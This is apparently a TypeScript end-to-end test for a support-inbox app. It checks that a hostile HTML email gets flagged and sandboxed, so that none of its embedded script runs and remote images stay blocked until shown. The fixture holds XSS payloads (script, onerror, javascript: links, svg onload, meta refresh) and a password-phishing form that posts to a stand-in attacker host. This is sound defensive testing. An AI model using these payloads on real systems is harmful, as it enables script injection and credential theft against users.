/**
 * A hostile HTML mail runs no script in the app: not through `<script>`, an `onerror` handler, a
 * `javascript:` link, nor after the user shows its remote images; and remote images load only
 * when asked for. Read by Alex, dispatcher of Support, who sees the whole queue.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sendMail } from '../support/local-stack.js';
import { pwnedMarkers, startWebHarness, type WebHarness } from './support/app.js';

let web: WebHarness;
let page: Page;
/** Stands in for a tracking-pixel host: counts the requests it gets. */
let imageHost: Server;
let imageHits = 0;

beforeAll(async () => {
  imageHost = createServer((request, response) => {
    imageHits += 1;
    const gif = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
    response.writeHead(200, { 'content-type': 'image/gif', 'content-length': gif.length });
    response.end(gif);
  });
  await new Promise<void>((resolve) => imageHost.listen(0, '127.0.0.1', resolve));
  const pixel = `http://127.0.0.1:${(imageHost.address() as AddressInfo).port}/pixel.gif`;

  web = await startWebHarness();
  await sendMail(web.stack, {
    from: 'Service Client <promo@hostile.example>',
    to: 'support@acme.test',
    subject: 'Votre colis est bloqué',
    text: 'Votre colis est bloqué. Cliquez ici.',
    html: [
      '<p id="body">Votre colis est bloqué. <b>Cliquez ici</b>.</p>',
      '<script>window.top.__pwned = "script"; window.__pwned = "script";</script>',
      '<img src="x" onerror="window.top.__pwned = \'onerror\'; window.__pwned = \'onerror\'">',
      '<a id="js-link" href="javascript:window.top.__pwned=\'javascript-link\'">Suivre mon colis</a>',
      '<svg onload="window.top.__pwned = \'svg\'"><circle r="1"/></svg>',
      '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
      '<form action="https://hostile.example/steal"><input name="password"></form>',
      `<img id="pixel" src="${pixel}" alt="suivi">`,
    ].join('\n'),
  });
  await web.stack.drain();
  page = await web.signedInPage('alex@acme.test', '/mailboxes/support');
}, 60_000);

afterAll(async () => {
  await web?.close();
  await new Promise((resolve) => imageHost?.close(resolve));
});

describe('a hostile HTML email', () => {
  it('is listed as new with its warning', async () => {
    const row = page.getByRole('listitem').filter({ hasText: 'Votre colis est bloqué' });
    await row.waitFor();
    const text = await row.innerText();
    expect(text).toContain('New');
    expect(text).toContain('Hostile content removed');
  });

  it('opens in a frame sandboxed without scripts, and nothing runs', async () => {
    await page.getByRole('link', { name: /Votre colis est bloqué/ }).click();
    const frameElement = page.locator('iframe[title^="Content of the message"]');
    await frameElement.waitFor();
    expect(await frameElement.getAttribute('sandbox')).toBe('');
    const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
    expect(srcdoc).toContain(`Content-Security-Policy" content="default-src 'none'; img-src data: https: http:; style-src 'unsafe-inline'"`);
    expect(srcdoc).not.toMatch(/<script|onerror=|javascript:/i);

    const frame = page.frame({ url: /about:srcdoc/ });
    expect(frame).not.toBeNull();
    await expect.poll(() => frame!.locator('#body').innerText()).toContain('Votre colis est bloqué');
    // Clicking the former javascript: link does nothing.
    await frame!.locator('a', { hasText: 'Suivre mon colis' }).click({ timeout: 2_000 }).catch(() => undefined);
    await page.waitForTimeout(300);
    expect(await pwnedMarkers(page)).toEqual([]);
  });

  it('keeps remote images blocked until the user shows them', async () => {
    const article = page.getByRole('article').first();
    expect(await article.innerText()).toContain('Remote images are blocked');
    expect(imageHits).toBe(0);
    await article.getByRole('button', { name: 'Show images' }).click();
    await article.getByText('Remote images are shown for this message.').waitFor();
    await expect.poll(() => imageHits).toBe(1);
    // Showing images re-renders the frame: still sandboxed, still nothing running.
    expect(await page.locator('iframe[title^="Content of the message"]').getAttribute('sandbox')).toBe('');
    await page.waitForTimeout(300);
    expect(await pwnedMarkers(page)).toEqual([]);
  });

  it('runs nothing even if the server-side sanitiser let a script through', async () => {
    // Simulate a sanitiser bypass: the API answers with raw hostile HTML. The frame's sandbox, its
    // own CSP and the app's CSP (which srcdoc frames inherit) must hold without the sanitiser.
    await page.route('**/api/conversations/*', async (route) => {
      const response = await route.fetch();
      const body = await response.json() as { messages: { html: string | null }[] };
      body.messages[0]!.html = [
        '<p id="bypass">Bypass</p>',
        '<script>window.__pwned = "bypass-script"; try { top.__pwned = "bypass-script" } catch {}</script>',
        '<img src="data:," onerror="window.__pwned = \'bypass-onerror\'">',
        '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=\'bypass-refresh\'">',
      ].join('');
      await route.fulfill({ response, json: body });
    });
    await page.reload();
    const frame = await expect.poll(() => page.frame({ url: /about:srcdoc/ })).not.toBeNull().then(() => page.frame({ url: /about:srcdoc/ })!);
    await expect.poll(() => frame.locator('#bypass').innerText()).toBe('Bypass');
    await page.waitForTimeout(300);
    expect(await pwnedMarkers(page)).toEqual([]);
    await page.unroute('**/api/conversations/*');
  });

  it('shows its warnings as badges', async () => {
    await page.reload();
    const head = page.locator('.conversation-head');
    await head.locator('[data-flag="hostile-html"]').waitFor();
    const badges = await head.locator('[data-flag]').evaluateAll((elements) => elements.map((e) => e.getAttribute('data-flag')));
    expect(badges).toContain('hostile-html');
    expect(await head.innerText()).toContain('Hostile content removed');
  });
});
